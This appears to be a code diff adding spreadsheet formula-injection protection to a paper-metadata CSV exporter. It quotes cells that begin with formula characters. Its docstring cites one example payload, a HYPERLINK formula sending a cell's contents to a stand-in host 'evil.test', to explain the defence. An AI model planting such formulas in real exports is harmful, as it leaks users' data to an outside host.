@@ -3,7 +3,13 @@ when they hold a comma, a quote or a line end).
 
 Columns added later come last (``doi`` onwards), so a script that reads columns by position reads the older ones
 where they were. A cell of several values (authors, listing dates, DOIs, categories) joins them with ``; ``; an
-author list the source cut short ends in ``; et al.``."""
+author list the source cut short ends in ``; et al.``.
+
+A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some take a leading tab
+or carriage return before one), so a title like ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would run when
+the export is opened. Such cells get a leading ``'``, the usual defence (OWASP's, and spreadsheets' own way of
+saying "text"): a title like "-based learning" is written "'-based learning". Every cell is checked, whatever its
+column: any of them can come from a file the user did not write."""
 
 from __future__ import annotations
 
@@ -36,7 +42,19 @@ def _web(url: str | None) -> str:
     return one_line(url) if url and is_web_url(url) else ""
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(cell: str) -> str:
+    """The cell as a spreadsheet shows it without running it: ``'`` before what it would take for a formula."""
+    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
+
+
 def _row(paper: Paper, mark: Mark) -> list[str]:
+    return [_inert(cell) for cell in _cells(paper, mark)]
+
+
+def _cells(paper: Paper, mark: Mark) -> list[str]:
     return [
         paper.id,
         one_line(paper.title),
